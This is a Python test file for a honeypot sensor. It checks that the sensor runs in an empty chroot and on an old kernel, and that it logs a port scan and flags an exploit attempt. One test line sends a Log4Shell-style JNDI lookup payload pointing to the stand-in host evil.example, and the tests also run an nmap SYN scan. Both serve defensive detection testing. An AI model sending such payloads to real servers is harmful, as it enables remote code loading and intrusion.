"""The decoy in the static sensor: in an empty root, and on a kernel of 2013. test_decoy_sensor.py SENSOR OLD_KERNEL"""
import os
import pathlib
import shutil
import subprocess
import sys

from decoy_case import Decoy, DecoyCase, main, until

SENSOR, OLD_KERNEL = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
sys.argv[2:3] = []


class Sensor(DecoyCase):
    def wrapped(self, command, data, *options):
        """A decoy whose program is run by a command in front."""
        decoy = Decoy.__new__(Decoy)
        decoy.network, decoy.folder = self.network, self.folder
        decoy.out, decoy.err = open(self.folder / "events", "wb"), open(self.folder / "said", "wb")
        decoy.process = self.network.start(self.host, *command, "decoy", "--json", "--data-dir", data, "--metrics", Decoy.METRICS, *options, stdout=decoy.out, stderr=decoy.err)
        self.decoys.append(decoy)
        return decoy.alive()

    def hears_and_answers(self, decoy):
        self.assertIn("HTTP/1.1", self.says(self.peer, "10.9.0.1", 8080, b"GET /${jndi:ldap://evil.example/a} HTTP/1.0\r\n\r\n"))
        self.nmap("-sS", "-p", "1-1000")
        until("the alert", lambda: any(a["caltrop"].get("grade") == "exploit" for a in decoy.actors()))
        decoy.quiet()
        decoy.stop()
        self.assertGreaterEqual(decoy.actors("10.9.0.2")[-1]["caltrop"]["tcp"]["count"], 1000)

    def test_in_an_empty_root(self):
        root = self.folder / "root"
        root.mkdir()
        shutil.copy(SENSOR, root / "sensor")
        decoy = self.wrapped(["chroot", root, "/sensor"], "/data")
        self.assertIn("cannot read /proc/net", decoy.said())
        self.assertIn("no interface of its own", decoy.said())
        self.hears_and_answers(decoy)
        self.assertTrue((root / "data/decoy/contacts.ndjson").exists())

    def test_on_an_old_kernel(self):
        if subprocess.run([OLD_KERNEL, "/bin/true"], stdout=subprocess.DEVNULL, check=False).returncode == 77:
            self.skipTest("no seccomp filters here")
        decoy = self.wrapped([OLD_KERNEL, SENSOR], self.folder / "data")
        self.assertIn("without Landlock", decoy.said())
        self.hears_and_answers(decoy)
        self.assertNotEqual(pathlib.Path(self.folder / "data/decoy/key").read_bytes(), bytes(32))


if __name__ == "__main__":
    main()
